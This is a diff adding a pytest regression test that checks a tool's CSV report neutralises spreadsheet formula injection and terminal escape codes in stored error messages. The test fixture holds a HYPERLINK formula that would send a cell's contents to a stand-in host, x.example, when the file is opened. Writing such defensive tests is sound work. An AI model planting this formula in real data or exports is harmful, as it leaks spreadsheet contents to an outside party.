@@ -6,6 +6,7 @@ written (full, closed) costs one line, not a traceback nor the report."""
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import shutil
@@ -288,3 +289,18 @@ def test_with_stderr_closed_an_error_is_not_written_to_stdout(tmp_path: Path) ->
                                *args], capture_output=True, text=True, timeout=120,
                               preexec_fn=lambda: os.close(2))
         assert done.returncode == 2 and done.stdout == ""
+
+
+def test_measurements_csv_opens_in_a_spreadsheet_as_text(tmp_path: Path) -> None:
+    # A server's message (or any text) starting like a formula would run in a spreadsheet.
+    db = _store(tmp_path)
+    with sqlite3.connect(db) as c:
+        c.execute("UPDATE trials SET status = 'failed', value = NULL, error = ? WHERE id = "
+                  "(SELECT min(id) FROM trials WHERE run_id = ?)",
+                  ('=HYPERLINK("http://x.example/?"&A1,"see")\x1b[2J', SWEEP))
+    assert _main(db, "report", SWEEP, "--out", str(tmp_path / "r")) == 0
+    with (tmp_path / "r" / "measurements.csv").open(newline="") as f:
+        rows = list(csv.DictReader(f))
+    errors = [row["error"] for row in rows if row["error"]]
+    assert errors == ['\'=HYPERLINK("http://x.example/?"&A1,"see")\\x1b[2J'], errors
+    assert all(not row["value"].startswith("'") for row in rows)  # numbers stay numbers
